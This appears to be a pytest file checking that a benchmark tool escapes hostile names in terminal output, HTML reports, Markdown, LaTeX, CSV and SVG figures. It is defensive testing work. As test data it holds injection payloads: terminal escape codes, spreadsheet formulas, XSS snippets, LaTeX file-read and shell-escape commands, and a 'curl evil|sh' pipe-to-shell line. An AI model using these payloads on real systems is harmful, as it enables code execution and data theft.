"""What comes from files and users is text wherever it is shown: on a terminal, a page, in figures and in tables."""

import csv
import io
import json
import re
import shlex
import shutil
import subprocess
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import numpy as np
import pytest
from _curves import PLAIN, recorded
from markdown_it import MarkdownIt
from matplotlib.figure import Figure
from rich.console import Console
from test_figures import gallery
from typer.testing import CliRunner

from benchmark.analysis.figures import style
from benchmark.analysis.load_experiments import read_experiments
from benchmark.cli import commands as cli_commands
from benchmark.cli import progress, terminal
from benchmark.cli.display import show_activity
from benchmark.experiment.cell import Cell
from benchmark.experiment.schedule import Schedule
from benchmark.experiment.spec import Spec
from benchmark.plugins.discovery import discover
from benchmark.records.checksummed_lines import encode_line
from benchmark.records.image_file_list import Sources
from benchmark.records.store import Store, slug
from benchmark.runner import events as runner_events
from benchmark.runner.gallery_writer import write_npz as write_gallery
from benchmark.text.escaping import (
    escape_csv,
    escape_latex,
    escape_markdown,
    make_lines_visible,
    make_visible,
    requote_command,
    shell_command,
    unescape_csv,
)

ROOT = Path(__file__).parent.parent
UNSEEN = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")  # lines aside
NAMES = [
    "\x1b[31mred", "\x1b]0;title\x07", "\x9b31m", "a\nb", "a\r\nb", "a\tb", "\x00", "\x7f", "\ud800", "caf\udce9",
    "a\u202eb\u2066c", "a\u2028b", "\ufffe", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "'=1", "'quoted'", "-0.5",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)", "{{ 7 * 7 }}",
    "[red]x[/red]", "[/red]", "[link=https://x.example]x[/link]", ":warning:", "isal[k=2]", "${oc.env:HOME}",
    "$x^2_$", "$$", "\\input{/etc/passwd}", "\\write18{ls}", "[2cm]x", "*", "**b**", "_b_", "made_up", "`c`", "~~s~~",
    "a|b", "a\\|b", "\\", "[x](https://x.example)", "![x](y)", "<https://x.example>", "https://x.example", "www.x.org",
    "&lt;", "&amp;", "# h", "- l", "a--b", "% c", "a&b", "é", "猫", "", " lead", "x" * 300,
]  # fmt: skip
EVIL = "\x1b]0;PWNED\x07\x9b31m\ncommand   curl evil|sh #\u202e\ud800 [red]`*_a_[b](javascript:x)<script>x</script>$x$"


# --- one function for each medium ---------------------------------------------------------------
@pytest.mark.parametrize("name", NAMES)
def test_in_a_line_everything_is_seen(name: str) -> None:
    text = make_visible(name)
    assert not UNSEEN.search(text)
    assert len(text.splitlines()) <= 1
    assert make_visible(text) == text
    assert text.encode() or not name
    assert text == name or UNSEEN.search(name) or not name.isprintable()


def test_what_stands_for_what_is_no_text() -> None:
    assert make_visible("\x1b[31m\n\t\x9b\u202e\ud800") == r"\x1b[31m\n\t\x9b\u202e\ud800"
    assert make_visible("né 猫 👩‍💻 می‌خواهم") == "né 猫 👩‍💻 می‌خواهم"
    assert make_lines_visible("a\x1b\n  b\r\n") == "a\\x1b\n  b\\r\n"


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
def test_a_pasted_line_is_the_same_words_in_a_shell(tmp_path: Path) -> None:
    words = [name for name in NAMES if "\0" not in name and not re.search("[\ud800-\udbff]", name)]
    line = shell_command(["printf", r"%s\0", *words])
    assert not UNSEEN.search(line)
    assert "\n" not in line
    done = subprocess.run(["bash", "-c", line], capture_output=True, cwd=tmp_path, env={"LC_ALL": "C.UTF-8"})
    assert done.stdout.split(b"\0")[:-1] == [word.encode(errors="surrogateescape") for word in words]


def test_a_command_of_a_folder_has_no_operator() -> None:
    assert requote_command("python -m benchmark run 'tasks=[digits]' a; curl x|sh") == (
        "python -m benchmark run 'tasks=[digits]' 'a;' curl 'x|sh'"
    )
    assert requote_command("run 'not closed\n; ls") == r"$'run \'not closed\x0a; ls'"
    assert requote_command("") == ""


@pytest.mark.parametrize("name", NAMES)
def test_in_a_markdown_table_a_name_is_text(name: str) -> None:
    text = f"| head |\n| --- |\n| {escape_markdown(name)} |\n\n{escape_markdown('x ' + name)}\n"
    html = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(text)
    page = Html(html)
    assert set(page.tags) <= {"table", "thead", "tbody", "tr", "th", "td", "p"}
    assert page.text.split() == ["head", *make_visible(name).split(), "x", *make_visible(name).split()]
    assert not re.search(r"https?://|\bwww\.", escape_markdown(name))  # GitHub makes links of these


@pytest.mark.parametrize("name", NAMES)
def test_in_a_latex_table_a_name_is_text(name: str) -> None:
    text = escape_latex(name)
    macros = {
        r"\textbackslash{}": "\\", r"\textasciitilde{}": "~", r"\textasciicircum{}": "^", r"\textless{}": "<",
        r"\textgreater{}": ">", r"\textbar{}": "|", "-{}-": "--", **{f"\\{mark}": mark for mark in "&%$#_{}"},
    }  # fmt: skip
    known = "|".join(map(re.escape, macros))
    assert not re.search(r"[\\&%$#_^~|<>]", re.sub(known, "", text))
    assert not text.startswith(("[", "*"))  # else an argument of the \\ above it
    body = text.removeprefix("{}") if text[2:3] in ("[", "*") else text
    assert re.sub(known, lambda match: macros[match[0]], body) == make_visible(name)


@pytest.mark.parametrize("name", NAMES)
def test_a_spreadsheet_computes_no_name_and_it_is_read_again(name: str) -> None:
    text = io.StringIO()
    csv.writer(text).writerow([escape_csv(name), escape_csv(-0.5), escape_csv(None)])
    [[cell, number, nothing]] = csv.reader(io.StringIO(text.getvalue()))
    assert unescape_csv(cell) == make_visible(name)
    assert (number, nothing) == ("-0.5", "")
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or float(cell) < 0


def test_numbers_stay_numbers_in_a_csv_file() -> None:
    for number in ("-0.5", "+3", "-1e-3", "12", "0.02366667", "'t Hooft"):
        assert unescape_csv(str(escape_csv(number))) == escape_csv(number) == number


# --- a folder in which every name is hostile ----------------------------------------------------
class Html(HTMLParser):
    """Tags, attributes and text of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags, self.attributes, self.text = list[str](), list[tuple[str, str | None]](), ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.text += data


def resealed(path: Path, change: Callable[[list[dict[str, Any]]], None]) -> None:
    """Lines of records, changed and sealed anew."""
    bodies = [json.loads(line)["body"] for line in path.read_bytes().splitlines()]
    change(bodies)
    path.write_bytes(b"".join(map(encode_line, bodies)))


def evil(text: str) -> str:
    return text + EVIL


def spoil_records(bodies: list[dict[str, Any]]) -> None:
    bodies[0]["metric"] = evil("accuracy")
    bodies[0]["cell"]["task"]["parameters"] = {evil("a"): evil("b")}
    for body in bodies[1:]:
        body["scores"] = {evil("accuracy"): body["scores"]["accuracy"]}
        body["diagnostics"] = {evil("logged"): 1.0}
        body["cost"] |= {evil("coffee"): 1.0}


def spoil_measured(bodies: list[dict[str, Any]]) -> None:
    for body in bodies:
        body |= {"device": evil("cpu"), "versions": {evil("numpy"): evil("2")}}
        body["seconds"] |= {evil("nap"): 1.0}


def spoil_manifest(path: Path) -> None:
    manifest = json.loads(path.read_text())
    [experiment] = manifest["experiments"]
    manifest["grid"] = evil("grid")
    manifest["runs"] = [{"command": evil("run plugins=a"), "version": evil("1"), "commit": evil("c")}]
    experiment |= {"name": evil("made"), "task": evil("digits")}
    for cell in experiment["cells"]:
        cell["dagger"] = [evil("saw")]
        cell["strategy"] = cell["strategy"] if cell["strategy"] == "random" else evil(f"={cell['strategy']}")
    path.write_text(json.dumps(manifest))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A results folder with EVIL in every name of it."""
    store = recorded(tmp_path_factory.mktemp("hostile"), PLAIN | {"crashed": {0: []}})
    spoil_manifest(store.folder / "grid.json")
    for path in (store.folder / "cells").rglob("*.jsonl"):
        resealed(path, spoil_records)
    for path in (store.folder / "measured").rglob("*.jsonl"):
        resealed(path, spoil_measured)
    files = {"pool": [(evil(f"{number}.png"), "0") for number in range(100)], "test": []}
    store.save_sources(evil("digits"), Sources("data", files, [evil("FAULT: odd")]))
    store.save_failure("made/crashed/seed-0", f"Traceback\n  File {EVIL}\n")
    classes = np.array([evil("dog"), evil("cat"), evil("cow")], np.str_)
    pictures = gallery().__dict__ | {"classes_C": classes, "labels_P": np.arange(100) % 3}
    write_gallery(store.folder / "gallery" / f"{slug(evil('made'))}.npz", pictures)
    return store.folder


TABLES = [["status"], ["tables"], ["verify"], ["savings", "strategy=random"], ["seconds"], ["compare", "random", "x"]]
VERBS = [
    *TABLES, *([*words, "format=json"] for words in TABLES), ["report"], ["explain", "made/mine/seed-0"],
    ["status", f"task={EVIL}"], ["explain", EVIL], ["verify", f"against={EVIL}"], ["tables", EVIL],
]  # fmt: skip


@pytest.mark.parametrize("words", VERBS, ids=lambda words: slug(" ".join(words)))
def test_no_command_passes_on_what_would_command_a_terminal(
    words: list[str], hostile: Path, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    words = [evil("=other") if word == "x" else word for word in words]
    monkeypatch.setattr("sys.argv", ["benchmark", *words, f"out={hostile}"])
    with pytest.raises(SystemExit):
        cli_commands.main()
    output = "".join(capfd.readouterr())
    assert output
    assert not UNSEEN.search(output)
    assert "Traceback" not in output
    assert "curl" in output or words[0] == "report"
    commands = [line for line in output.splitlines() if line.startswith("command")]
    assert len(commands) == (words == ["explain", "made/mine/seed-0"])
    for line in commands:
        assert shlex.split(line)[:5] == ["command", "python", "-m", "benchmark", "run"]


@pytest.fixture(scope="module")
def written(hostile: Path) -> Path:
    for verb in ("tables", "report"):
        done = CliRunner().invoke(cli_commands.app, [verb, f"out={hostile}"])
        assert done.exit_code == 0, done.output + repr(done.exception)
    return hostile


def test_a_page_shows_hostile_names_as_text(written: Path) -> None:
    text = (written / "report.html").read_text()
    assert not UNSEEN.search(text)
    page = Html(text)
    assert page.tags.count("script") == 1
    assert {"p", "section", "table", "img"} <= set(page.tags)
    assert not {"b", "red"} & set(page.tags)
    assert not [name for name, _ in page.attributes if name.startswith("on")]
    links = [value or "" for name, value in page.attributes if name in ("href", "src")]
    assert all(link.startswith(("#", "cells/", "data:image/")) for link in links)
    assert make_visible(evil("=mine")) in page.text
    assert page.text.count("\ncommand   curl") == 0


@pytest.mark.parametrize("ending", ["md", "tex", "csv", "svg"])
def test_no_file_holds_what_is_no_text(ending: str, written: Path) -> None:
    paths = list(written.rglob(f"*.{ending}"))
    assert paths
    for path in paths:
        assert not UNSEEN.search(path.read_text(encoding="utf-8")), path


def test_svg_figures_parse_and_hold_the_names(written: Path) -> None:
    texts = [
        node.text or ""
        for path in written.rglob("*.svg")
        for node in ElementTree.parse(path).iter()
        if node.tag.endswith("}text")
    ]
    assert any(make_visible(evil("=mine"))[:30] in text for text in texts)
    assert not any(node.tag.endswith("}script") for p in written.rglob("*.svg") for node in ElementTree.parse(p).iter())


def test_a_figure_writes_nothing_but_text(tmp_path: Path) -> None:
    @style.with_style
    def drawn() -> Figure:
        figure, axes = style.single_plot(["a"])
        axes.set_title(EVIL)
        axes.text(0, 0, EVIL)
        axes.set_xlabel("two\nlines")
        return figure

    figure = drawn()
    assert figure is not None
    assert figure.axes[0].get_xlabel() == "two\nlines"
    text = style.save_figure(figure, tmp_path / "stem")[1].read_text(encoding="utf-8")
    assert not UNSEEN.search(text)
    assert text.count("PWNED") == 2
    ElementTree.fromstring(text)


def test_markdown_tables_render_as_text(written: Path) -> None:
    [path] = [path for path in (written / "tables").glob("made*.md")]
    page = Html(MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(path.read_text()))
    assert set(page.tags) <= {"h3", "table", "thead", "tbody", "tr", "th", "td", "p"}
    assert page.tags.count("tr") == 1 + 4
    assert f"{make_visible(evil('=mine'))}†" in page.text


def test_our_reader_takes_the_apostrophe_away(written: Path) -> None:
    [path] = [path for path in (written / "tables").glob("made*.csv")]
    with open(path, newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert {row["strategy"] for row in rows} >= {"random", "'" + make_visible(evil("=mine"))}
    [experiment] = read_experiments(str(path))
    assert list(experiment.curves) == ["random", make_visible(evil("=mine")), make_visible(evil("=other"))]
    assert experiment.curves["random"].value_SR.tolist() == [[51.0, 61.0, 66.0]]


# --- the rest of the terminal -------------------------------------------------------------------
def test_a_line_for_people_has_no_markup(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(terminal, "err", Console(stderr=True, force_terminal=True, color_system="standard"))
    terminal.say("[red]a[/red] [/b] :warning: isal[k=2] 42 /tmp\x1b[31m\nb")
    assert capsys.readouterr().err == "[red]a[/red] [/b] :warning: isal[k=2] 42 /tmp\\x1b[31m\\nb\n"


def test_the_live_lines_of_a_run_show_names_whole(monkeypatch: pytest.MonkeyPatch) -> None:
    discover()
    cell = Cell(Spec.read("task", "digits"), Spec.read("strategy", "isal[k=2]"), Schedule(1, 1, 1), 0)
    console = Console(file=io.StringIO(), force_terminal=True, width=200, color_system=None, _environ={})
    events = [runner_events.CellStarted(cell), runner_events.Failure(cell, KeyError("[/red] \x1b]0;x\x07"), False)]
    with show_activity(console) as display:
        list(progress.show_progress(events, {}, display))
        console.print(display)
        assert display.live
    text = console.file.getvalue()  # type: ignore[attr-defined]
    assert "isal[k=2] seed 0" in text
    assert "[/red]" in text
    assert "\x1b]0;" not in text
    assert "\x07" not in text


def test_a_kept_traceback_commands_no_terminal(tmp_path: Path) -> None:
    store = Store(tmp_path)
    store.save_failure("a/b/c/seed-0", f"Traceback\n  {EVIL}")
    text = (tmp_path / "failures" / "a" / "b" / "c" / "seed-0.txt").read_text()
    assert text.startswith("Traceback\n  \\x1b]0;PWNED")
    assert not UNSEEN.search(text)


def test_consoles_are_given_text_alone() -> None:
    """Anything else would have its markup and its :emoji: interpreted."""
    calls = [
        (path.name, call)
        for path in (ROOT / "benchmark").rglob("*.py")
        for call in re.findall(r"(?:out|err|console)\.print\((\w+)", path.read_text())
    ]
    assert {name for name, _ in calls} == {"terminal.py", "progress.py", "display.py"}
    assert {call for _, call in calls} == {"Text", "table"}
